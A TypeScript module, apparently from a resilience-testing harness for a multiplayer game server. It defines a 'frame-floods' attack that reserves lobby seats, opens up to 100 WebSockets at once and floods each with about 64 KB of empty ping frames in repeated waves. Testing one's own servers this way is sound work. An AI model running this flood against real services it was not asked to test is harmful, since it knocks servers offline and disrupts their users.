import type { Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { Hostile } from './client/hostile.ts'
import { pause } from './client/pause.ts'
import type { Reservation } from './client/room-client.ts'
import { closed, openRawWebSocket } from './raw-http.ts'

/** As many WebSockets as one address may have. */
const SOCKETS = 100
/** After a wave in which none could be opened. */
const REST_MS = 200

const EMPTY_PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0])

/** 64 KB of pings without contents: what a server reads of a connection in one go. */
export const FRAME_FLOOD = Buffer.concat(Array.from({ length: 10_900 }, () => EMPTY_PING))

/** Fills all its WebSockets at the same moment with as many frames as are read in one go. */
export const frameFloods: Attack = {
  name: 'frame-floods',
  run: async (target, signal) => {
    const hostile = new Hostile(target)
    const token = (await hostile.guest()) ?? ''
    await hostile.hammer(1, signal, async () => {
      const opened = await Promise.all(Array.from({ length: SOCKETS }, () => enter(hostile, token)))
      const sockets = opened.filter((socket) => socket !== null)
      hostile.count('floods', sockets.length)
      for (const socket of sockets) socket.resume().write(FRAME_FLOOD)
      const drop = () => {
        for (const socket of sockets) socket.destroy()
      }
      signal.addEventListener('abort', drop, { once: true })
      await Promise.all(sockets.map(closed))
      signal.removeEventListener('abort', drop)
      if (sockets.length === 0) await pause(REST_MS, signal)
    })
    return hostile.end()
  },
}

/** A WebSocket in the lobby, or null. */
async function enter(hostile: Hostile, token: string): Promise<Socket | null> {
  const grant = await hostile.post<{ readonly reservation: Reservation }>('lobby', {}, token)
  if (grant === null) return null
  const { processId, roomId, sessionId } = grant.reservation
  const path = `/${processId}/${roomId}?sessionId=${sessionId}`
  return openRawWebSocket(hostile.target, path).catch(() => null)
}
